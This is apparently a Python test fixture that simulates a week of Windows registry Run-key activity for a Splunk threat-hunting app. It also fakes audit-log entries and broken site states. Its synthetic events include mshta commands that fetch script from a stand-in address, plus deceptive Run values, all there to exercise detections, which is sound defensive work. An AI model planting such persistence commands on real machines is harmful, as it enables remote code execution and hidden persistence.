"""A site small enough for thousands of searches: the hosts with intrusions, and rows in every table that is read."""

from __future__ import annotations

from collections.abc import Sequence
from dataclasses import dataclass, field, replace
from itertools import product

from tests.minisplunk.external import ExternalCommands
from tests.minisplunk.index import Event
from tests.minisplunk.kvstore import KvStore
from tests.minisplunk.lookups import CsvTable, KvTable, LookupTable, LookupTables
from tests.minisplunk.pipeline import Job, Rows
from tests.minisplunk.sheets import MemoryFile
from tests.minisplunk.splunk import Indexer, Splunk
from tests.minisplunk.stash import NoSummary
from tests.minisplunk.timing import strftime
from tests.minisplunk.values import printed
from tests.site.simulation.hosts import host
from tests.site.simulation.moments import HOUR, at, end_of_week
from tests.site.simulation.plots_of_run_keys import REG, stored_script
from tests.site.simulation.processes import Process, desktop
from tests.site.simulation.rendering import indexed
from tests.site.simulation.sysmon import SysmonEvent, changed, renamed, set_value
from tests.site.simulation.week import Week
from tests.splunk_app.snapshot_rows import snapshot_events
from tests.splunk_app.whole_searches import ENTRY_ID, HOSTS
from tools.generate.searches.prevalence import MARK

_DAY = 24 * HOUR
_MIDWEEK, _SUNDAY_MIDNIGHT = at("Wed 00:00"), end_of_week()
_LONG_AGO = _SUNDAY_MIDNIGHT - 200 * _DAY
_LEARNING = "Run Key Hunt - Prevalence - Learn entries"
KEEP, KEEP_STORED, TIE = (
    f"Run Key Hunt - Judgement - {title}" for title in ("Keep findings", "Keep stored programs", "Tie chains")
)
_RUN = r"HKLM\SOFTWARE\Microsoft\Windows\CurrentVersion\Run"


@dataclass
class RememberingCommands(ExternalCommands):
    """The app's commands; for rows that one has seen, no process is started again."""

    _results: dict[tuple[str, ...], Rows] = field(default_factory=dict)

    def _run(self, name: str, arguments: Sequence[str], rows: Rows, job: Job) -> Rows:
        key = (name, *arguments, str(job.indexer), repr(rows))
        if key not in self._results:
            self._results[key] = super()._run(name, arguments, rows, job)
        return self._results[key]


class BrokenCommands(ExternalCommands):
    """The app's commands, which say what they are and then give rows back as they came."""

    def _run(self, _name: str, _arguments: Sequence[str], rows: Rows, _job: Job) -> Rows:
        return rows


class UnchangedTables(LookupTables):
    """The tables of an app; a search that writes one writes into a copy that nobody reads."""

    def written(self, name: str) -> LookupTable:
        table = self.table(name)
        if isinstance(table, KvTable):
            return replace(table, collection=replace(table.collection, store=KvStore()))
        assert isinstance(table, CsvTable)
        return replace(table, file=MemoryFile(table.file.read()))


def events_of_the_intrusions(simulated: Week) -> list[Event]:
    """Take the hosts with intrusions, and add some events."""
    hosts = {intrusion.host for intrusion in simulated.intrusions}
    added = (indexed(event, 900_000 + number) for number, event in enumerate(_odd_events()))
    return [*(event for event in simulated.events if event.host in hosts), *added, *_audited(), *snapshot_events()]


def _audited() -> list[Event]:
    """Make what Splunk's audit log has of searches that change the site's files, and of some that do not."""
    searches = (
        ("anna", '`runkeyhunt_approve(0, "*", "a good reason", 30, "")`'),
        ("anna", "| `runkeyhunt_renew(0, 30)`"),
        ("ben", '|  ` runkeyhunt_revoke(0, "it is gone")`'),
        ("ben", "| makeresults | outputlookup append=true runkeyhunt_baseline"),
        ("ben", "| makeresults|outputlookup runkeyhunt_tuning.csv"),
        ("carl", "| inputlookup runkeyhunt_baseline | outputlookup own.csv | search runkeyhunt_baseline"),
        ("carl", "| `runkeyhunt_my_approvals`"),
    )
    times = (at("Sun 12:00") + 60 * number for number in range(20))
    granted = [audited(next(times), user, search) for user, search in (*searches, searches[0])]
    return [*granted, audited(next(times), "dora", searches[0][1], info="completed")]


def audited(time: float, user: str, search: str, *, info: str = "granted") -> Event:
    """Make an event as the audit log has it of a search."""
    stamp = strftime(time, "%m-%d-%Y %H:%M:%S.%3N")
    raw = (
        f"Audit:[timestamp={stamp}, user={user}, action=search, info={info} , search_id='1.1', search='{search}'][n/a]"
    )
    return Event(time, "search-head", "audittrail", "audittrail", "_audit", raw)


def _odd_events() -> tuple[SysmonEvent, ...]:
    """Make what the week lacks.

    Removals that meet one half of their alert each, payloads with odd letters, a renamed key, a stored program in XML,
    a value just long enough to be a program, an entry on more hosts than are named.
    """
    administrator = desktop(host(31), "Sat")
    reg = administrator.start_at(at("Sat 16:00"), REG)
    program = administrator.start_at(at("Sat 16:05"), rf"{host(31).profile}\AppData\Local\Temp\setup.exe")
    installer = administrator.start_at(at("Sat 16:10"), r"C:\Program Files\Till\setup.exe")
    stored = next(event for event in stored_script().events if "lfState" in event.fields.get("TargetObject", ""))
    odd = (
        r"C:\Users\Public\odd[1.exe",
        r"C:\Users\Public\odd]1.exe",
        "mshta http://203.0.113.9/od[d/l",
        "mshta http://203.0.113.9/od]d/l",
        'mshta javascript:open("http://203.0.113.9/odd"+1)',
    )
    return (
        changed("DeleteValue", reg, 0.1, rf"{_RUN}\Spotify"),
        set_value(installer, 0.2, rf"{_RUN}\SecurityHealth", r"C:\Program Files\Till\till.exe"),
        set_value(installer, 0.3, f"{_RUN}\\Ti\u200bll", r"C:\Program Files\Till\till.exe"),
        changed("DeleteValue", program, 0.1, rf"{_RUN}\SecurityHealth"),
        renamed("RenameKey", reg, 0.5, f"{_RUN}-Off", _RUN),
        replace(stored, host=host(31)),
        *(set_value(reg, 1.0 + n, rf"{_RUN}\Odd {n}", command) for n, command in enumerate(odd)),
        set_value(reg, 10.0, r"HKLM\SOFTWARE\Odd\Long", "A" * 200),
        *(set_value(_started(REG, n), 1.0, rf"{_RUN}\Till", r"C:\Program Files\Till\till.exe") for n in range(1, 28)),
    )


def _started(image: str, number: int) -> Process:
    return desktop(host(number), "Sat").start_at(at("Sat 17:00"), image)


def prepared(splunk: Splunk, kvstore: KvStore, event_fields: frozenset[str]) -> Splunk:
    """Fill the tables of a Splunk that has been started, and let nothing change them from then on."""
    started = splunk.commands
    assert started is not None
    commands = RememberingCommands(started.app, started.bundles, started.python, started.bytecode, started.fields)
    splunk = replace(splunk, commands=commands, event_fields=event_fields)
    _fill_tables(splunk.lookups)
    splunk.search(started.app.saved_searches()[_LEARNING]["search"], _MIDWEEK, "-2d@d", "now")
    _age_entries(splunk.lookups.table("runkeyhunt_entries"))
    # The chains of the second half of the week are still to be tied.
    for name, now in ((KEEP, _SUNDAY_MIDNIGHT), (KEEP_STORED, _SUNDAY_MIDNIGHT), (TIE, _MIDWEEK + 12 * HOUR)):
        splunk.search(started.app.saved_searches()[name]["search"], now, "-7d@d", "now")
    kept = NoSummary(splunk.collected.rows)
    return replace(splunk, lookups=UnchangedTables.of_app(started.app, kvstore), collected=kept)


def on_its_first_day(site: Splunk, untouched: Splunk) -> Splunk:
    """Take the events from a site, and what its tables hold."""
    assert untouched.commands is not None
    return replace(
        site, indexers=(), collected=NoSummary(), lookups=UnchangedTables.of_app(untouched.commands.app, KvStore())
    )


def without_events(site: Splunk) -> Splunk:
    """Let a site have nothing but what it has learned."""
    return replace(site, indexers=(), collected=NoSummary())


def with_more_entries(site: Splunk) -> Splunk:
    """Let a site have learned entries on both sides of every border: of scores, hosts, times and what is known."""
    started, kvstore = site.commands, KvStore()
    assert started is not None
    week_ago = _SUNDAY_MIDNIGHT - 7 * _DAY
    kept: Rows = [
        {
            "_key": f"{number:032x}",
            "entry": f"Run|entry {number}|c:\\x.exe",
            "location": "Run",
            "baseline": ("unknown", "collision", "known_good")[number % 3],
            "score": str(score),
            "first_seen": printed(week_ago - number % 2),
            "last_seen": printed(week_ago + (number % 5 - 1) * HOUR),
            "host_count": str(hosts),
            "hosts": f"HOST-{number}|HOST-0",
        }
        for number, (score, hosts) in enumerate(product((0, 19, 20, 40, 60, 80), (1, 2, 3, 4, 10, 11, 25, 26)))
    ]
    tables = LookupTables.of_app(started.app, kvstore)
    tables.table("runkeyhunt_entries").write(kept, append=True)
    return replace(site, lookups=UnchangedTables.of_app(started.app, kvstore))


def out_of_order(site: Splunk) -> Splunk:
    """Let a site's commands do nothing, its learning have stopped long ago, and anybody write its files."""
    started, kvstore = site.commands, KvStore()
    assert started is not None
    commands = BrokenCommands(started.app, started.bundles, started.python, started.bytecode, started.fields)
    tables = LookupTables.of_app(started.app, kvstore)
    old = {"first_seen": printed(_LONG_AGO), "last_seen": printed(_LONG_AGO), "host_count": "1"}
    rows: Rows = [{**old, "_key": key, "entry": key} for key in (MARK, "0" * 32)]
    tables.table("runkeyhunt_entries").write(rows, append=True)
    limits: Rows = [{"title": "outputlookup", "outputlookup_check_permission": "0"}]
    rest = {**site.rest, "/services/configs/conf-limits/outputlookup": limits}
    return replace(site, commands=commands, lookups=UnchangedTables.of_app(started.app, kvstore), rest=rest)


def in_trouble(site: Splunk) -> Splunk:
    """Let a site have late events, wrong clocks, a collector, another source, and what is old."""
    first, *others = site.indexers
    rows = first.events(lambda row: True, 0, _SUNDAY_MIDNIGHT)
    write = next(row for row in rows if "\\CurrentVersion\\Run\\" in str(row.get("TargetObject")))
    late = {"_time": printed(_SUNDAY_MIDNIGHT - HOUR / 2), "_indextime": printed(_SUNDAY_MIDNIGHT + 2 * HOUR)}
    elsewhere = {"index": "edr", "source": "sensor", "sourcetype": "edr:xml"}
    odd_times = [_SUNDAY_MIDNIGHT + days * _DAY for days in (-31, 2, 4)]
    today = printed(_SUNDAY_MIDNIGHT - HOUR)
    skipped = {"index": "_internal", "sourcetype": "scheduler", "app": "runkeyhunt", "status": "skipped"}
    log = {**skipped, "savedsearch_name": _LEARNING, "source": "scheduler.log", "_raw": "status=skipped"}
    kept = {"index": "summary", "source": "runkeyhunt_finding", "sourcetype": "stash", "_raw": "rk_score=40"}
    old = {"_time": printed(_SUNDAY_MIDNIGHT - 3 * _DAY), "_indextime": printed(_SUNDAY_MIDNIGHT - 3 * _DAY)}
    more: Rows = [
        {**write, **late, "host": "WEC01"},
        {**write, **late, **elsewhere},
        *({**write, "_time": printed(time), "_indextime": today} for time in odd_times),
        {**log, **late, "host": "search-head"},
        {**kept, **old, "host": "search-head"},
    ]
    return replace(site, indexers=[Indexer([*rows, *more]), *others])


def asked_for_kept(splunk: Splunk) -> Splunk:
    """Turn the switch, as Splunk tells of it when it is asked for its macros."""
    path = "/servicesNS/-/runkeyhunt/configs/conf-macros"
    macros = [
        {**row, "definition": str(row["definition"]).replace("_live(", "_kept(")}
        if row["title"] == "runkeyhunt_opens_on(2)"
        else row
        for row in splunk.rest[path]
    ]
    return replace(splunk, rest={**splunk.rest, path: macros})


def _fill_tables(lookups: LookupTables) -> None:
    """Write an approval and a weight of every state: in force, soon to expire, expired, without a date, revoked."""
    days = [strftime(_SUNDAY_MIDNIGHT + day * _DAY, "%Y-%m-%d") for day in (100, 10, -1)]
    approval = {"location": "Run", "command": r"C:\Till\till.exe", "writer": "*"}
    common = {"hosts": HOSTS, "reason": "Tills of the shops", "owner": "analyst"}
    expiries = list(enumerate([*days, "next year"]))
    approvals = [{**approval, **common, "value_name": f"Till {number}", "expires": day} for number, day in expiries]
    weights = [{**common, "rule": "mshta", "weight": str(number), "expires": day} for number, day in expiries]
    approvals[0]["entry_id"] = ENTRY_ID
    others = {"owner": "ops", "approved_by": "analyst"}, {"owner": "ops"}, {"revoked": "2026-03-01 by ops: gone"}
    more = [{**approvals[0], "entry_id": str(number) * 32, **one} for number, one in enumerate(others)]
    lookups.table("runkeyhunt_baseline").write([*approvals, *more], append=True)
    lookups.table("runkeyhunt_tuning").write(weights, append=True)


def _age_entries(entries: LookupTable) -> None:
    """Let the site have learned for a month until this evening.

    One entry has a score that it has no more, one is as old as can be kept, and another too old.
    """
    mark = next(row for row in entries.rows() if row["_key"] == MARK)
    known = next(row for row in entries.rows() if row["_key"] != MARK)
    aged: Rows = [
        {**mark, "first_seen": printed(_MIDWEEK - 30 * _DAY)},
        {**known, "score": "99", "last_seen": printed(_SUNDAY_MIDNIGHT - 10 * HOUR)},
        {**known, "_key": "0" * 32, "last_seen": printed(_LONG_AGO)},
        {**known, "_key": "1" * 32, "last_seen": printed(_SUNDAY_MIDNIGHT - 180 * _DAY)},
    ]
    entries.write(aged, append=True)
